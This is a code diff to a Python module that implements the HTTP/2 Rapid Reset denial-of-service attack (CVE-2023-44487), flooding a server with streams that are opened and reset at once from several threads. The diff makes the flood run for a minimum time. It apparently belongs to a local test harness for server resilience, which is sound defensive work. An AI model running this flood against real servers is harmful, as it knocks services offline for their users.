@@ -1,13 +1,16 @@
-"""Streams that are opened and reset at once, as fast as they go (CVE-2023-44487)."""
+"""Streams that are opened and reset at once, as fast as they go (CVE-2023-44487), so many at least and for so
+long at least."""
 
+import itertools
 import struct
 import threading
+import time
 
 import http2
 
 FLAGS = []
-SHORT = {"resets": 20_000, "attackers": 2}
-FULL = {"resets": 300_000, "attackers": 2}
+SHORT = {"resets": 20_000, "attackers": 2, "seconds": 0}
+FULL = {"resets": 300_000, "attackers": 2, "seconds": 15}
 AT_ONCE = 200
 
 
@@ -19,19 +22,25 @@ def opened_and_reset(stream):
                     for i in range(AT_ONCE)), 2 * AT_ONCE
 
 
-def attack(address, resets, attackers):
-    connections = []
+def attack(address, resets, attackers, seconds):
+    connections, sent, end = [], [], time.monotonic() + seconds
+
+    def parts():
+        for number in itertools.count():
+            if number * AT_ONCE >= resets / attackers and time.monotonic() > end:
+                return
+            sent.append(AT_ONCE)
+            yield opened_and_reset
 
     def one(number):
-        parts = [opened_and_reset] * (resets // attackers // AT_ONCE)
-        connections.append(http2.flood(address, f"127.0.0.{2 + number}", parts))
+        connections.append(http2.flood(address, f"127.0.0.{2 + number}", parts()))
 
     threads = [threading.Thread(target=one, args=(number,)) for number in range(attackers)]
     for thread in threads:
         thread.start()
     for thread in threads:
         thread.join()
-    return f"{resets} streams were opened and reset on {sum(connections)} connections"
+    return f"{sum(sent)} streams were opened and reset on {sum(connections)} connections"
 
 
 def check(result, size):
